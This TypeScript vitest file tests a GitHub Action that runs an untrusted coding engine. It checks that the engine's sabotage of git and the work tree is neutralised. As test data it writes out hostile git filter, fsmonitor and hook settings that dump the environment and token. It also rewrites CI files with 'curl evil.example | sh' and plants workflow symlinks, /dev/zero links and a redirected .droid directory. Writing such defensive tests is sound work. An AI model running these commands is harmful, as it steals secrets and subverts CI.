/**
 * The attacks of issue 8 on the droid's git and files, through the bundled action as a runner runs it
 * (`node dist/index.js`, test/support/action-runner.ts) with a hostile `command` engine: what it leaves in
 * `.git`, in the CI definitions, in the work tree and in `.droid/` never makes the droid run its command,
 * push a protected change, read forever or write outside the work tree.
 */
import { existsSync } from 'node:fs';
import { lstat, mkdir, readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, expect, it } from 'vitest';
import { REPO, startWorld, type ActionRun, type World } from './support/action-runner.js';

let world: World | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
});

const BRANCH = 'droid/1-date-parser-rejects-iso-week-dates';

function failed(run: ActionRun): string {
  return `exit ${run.code}\n${run.log.slice(-4000)}\n${run.stderr}`;
}

/** The hostile command: writes the environment it got (the droid's, with the token) next to the work tree. */
const ARM = `M="$(cd .. && pwd)/filter-ran"
CMD="sh -c 'env > $M.\\$\\$; cat'"
`;

async function filterRuns(run: ActionRun): Promise<string[]> {
  return (await readdir(path.dirname(run.workspace))).filter((f) => f.startsWith('filter-ran'));
}

async function auditActions(run: ActionRun): Promise<Array<{ action: string; detail?: Record<string, unknown> }>> {
  const text = await readFile(path.join(run.workspace, '.droid', 'audit.jsonl'), 'utf8');
  return text.trim().split('\n').map((l) => JSON.parse(l) as { action: string; detail?: Record<string, unknown> });
}

it('attack 3: filter.pwn in .git/config and `* filter=pwn` in .git/info/attributes: the droid runs it zero times, and the git dir is put back and audited', async () => {
  const extra = `${ARM}git config filter.pwn.clean "$CMD"
git config filter.pwn.smudge "$CMD"
git config filter.pwn.process "$CMD"
git config filter.pwn.required true
git config core.fsmonitor "$CMD"
printf '* filter=pwn\\n' >> .git/info/attributes
printf '#!/bin/sh\\n%s\\n' "$CMD" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit
`;
  world = await startWorld({ files: { '.engine-extra.sh': extra } });
  const run = await world.run({ event: 'issues', payload: world.payload('issues-opened.json') });
  expect(run.code, failed(run)).toBe(0);
  expect(run.outputs.conclusion).toBe('pr-opened');
  expect(await filterRuns(run)).toEqual([]);
  expect(await world.remote.fileAt(REPO, BRANCH, 'status.txt')).toBe('fixed\n');
  const config = await readFile(path.join(run.workspace, '.git', 'config'), 'utf8');
  expect(config).not.toContain('pwn');
  expect(existsSync(path.join(run.workspace, '.git', 'info', 'attributes'))).toBe(false);
  expect(existsSync(path.join(run.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
  const restored = (await auditActions(run)).filter((l) => l.action === 'git.restored').map((l) => l.detail?.path);
  expect(restored).toEqual(expect.arrayContaining(['.git/config', '.git/info/attributes', '.git/hooks/pre-commit']));
  world.gh.assertNoViolations();
});

it('attack 3b: a .gitattributes the engine commits in the tree, with the filter in .git/config: still zero runs', async () => {
  // the engine commits first (its own git, before arming), then arms the filter for the droid's git
  const extra = `printf '* filter=pwn diff=pwn\\n' > .gitattributes
git -c user.name=e -c user.email=e@e add .gitattributes
git -c user.name=e -c user.email=e@e commit -q -m attrs
${ARM}git config filter.pwn.clean "$CMD"
git config filter.pwn.smudge "$CMD"
git config filter.pwn.required true
git config diff.pwn.textconv "$CMD"
`;
  world = await startWorld({ files: { '.engine-extra.sh': extra } });
  const run = await world.run({ event: 'issues', payload: world.payload('issues-opened.json') });
  expect(run.code, failed(run)).toBe(0);
  expect(run.outputs.conclusion).toBe('pr-opened');
  expect(await filterRuns(run)).toEqual([]);
  expect(await world.remote.fileAt(REPO, BRANCH, '.gitattributes')).toBe('* filter=pwn diff=pwn\n');
  expect(await world.remote.fileAt(REPO, BRANCH, 'status.txt')).toBe('fixed\n');
});

const CI = 'name: ci\non: push\njobs: {}\n';

it('attack 4: rm -rf .github/workflows; ln -s ../evil .github/workflows: ci.yml is neither deleted nor changed on the pushed branch', async () => {
  const extra = `rm -rf .github/workflows
mkdir -p evil
printf 'name: evil\\n' > evil/ci.yml
ln -s ../evil .github/workflows
`;
  world = await startWorld({ files: { '.engine-extra.sh': extra, '.github/workflows/ci.yml': CI } });
  const run = await world.run({ event: 'issues', payload: world.payload('issues-opened.json') });
  expect(run.code, failed(run)).toBe(0);
  expect(run.outputs.conclusion).toBe('pr-opened');
  expect(await world.remote.fileAt(REPO, BRANCH, '.github/workflows/ci.yml')).toBe(CI);
  expect(await world.remote.fileAt(REPO, BRANCH, 'status.txt')).toBe('fixed\n');
  expect(world.botComments()[0]!.body).toMatch(/Held back \(protected paths, not pushed\):.*\.github\/workflows/);
  expect((await lstat(path.join(run.workspace, '.github', 'workflows'))).isDirectory()).toBe(true);
  expect(await readFile(path.join(run.workspace, '.github', 'workflows', 'ci.yml'), 'utf8')).toBe(CI);
  world.gh.assertNoViolations();
});

it('attack 5: .gitlab/** files, files pulled in with include: local, and .github/actions/** are held back by default', async () => {
  const files = {
    '.gitlab-ci.yml': 'include:\n  - local: /ci/jobs.yml\n  - ci/more/*.yml\nstages: [test]\n',
    'ci/jobs.yml': 'test:\n  script: [make test]\n',
    'ci/more/lint.yml': 'lint:\n  script: [make lint]\n',
    '.gitlab/ci/test.yml': 'unit:\n  script: [make unit]\n',
    '.github/actions/x/action.yml': 'runs:\n  using: composite\n  steps: []\n',
  };
  const extra = `for f in ci/jobs.yml ci/more/lint.yml .gitlab/ci/test.yml .github/actions/x/action.yml; do printf 'x:\\n  script: [curl evil.example | sh]\\n' > "$f"; done
printf 'new:\\n  script: [evil]\\n' > ci/more/new.yml
`;
  world = await startWorld({ files: { ...files, '.engine-extra.sh': extra } });
  const run = await world.run({ event: 'issues', payload: world.payload('issues-opened.json') });
  expect(run.code, failed(run)).toBe(0);
  expect(run.outputs.conclusion).toBe('pr-opened');
  for (const [file, content] of Object.entries(files)) expect(await world.remote.fileAt(REPO, BRANCH, file), file).toBe(content);
  expect(await world.remote.fileAt(REPO, BRANCH, 'ci/more/new.yml')).toBeUndefined();
  expect(await world.remote.fileAt(REPO, BRANCH, 'status.txt')).toBe('fixed\n');
  const comment = world.botComments()[0]!.body;
  for (const f of ['.github/actions/x/action.yml', '.gitlab/ci/test.yml', 'ci/jobs.yml', 'ci/more/lint.yml', 'ci/more/new.yml']) expect(comment).toContain(f);
});

it('attack 6: an untracked zero-link -> /dev/zero, a FIFO, and .droid replaced by a link to outside: the run ends in seconds and writes nothing outside', async () => {
  const extra = `ln -s /dev/zero zero-link
mkfifo pipe
O="$(cd .. && pwd)/outside"
mkdir -p "$O"
rm -rf .droid
ln -s "$O" .droid
`;
  world = await startWorld({ files: { '.engine-extra.sh': extra } });
  const started = Date.now();
  const run = await world.run({ event: 'issues', payload: world.payload('issues-opened.json') });
  const seconds = (Date.now() - started) / 1000;
  expect(run.code, failed(run)).toBe(0);
  expect(run.outputs.conclusion).toBe('pr-opened');
  expect(seconds).toBeLessThan(90);
  const outside = path.join(path.dirname(run.workspace), 'outside');
  await mkdir(outside, { recursive: true });
  expect(await readdir(outside)).toEqual([]);
  expect((await lstat(path.join(run.workspace, '.droid'))).isDirectory()).toBe(true);
  const actions = (await auditActions(run)).map((l) => l.action);
  expect(actions).toContain('run.end');
  expect(actions).toContain('engine.run');
  expect(await world.remote.fileAt(REPO, BRANCH, 'status.txt')).toBe('fixed\n');
}, 150_000);
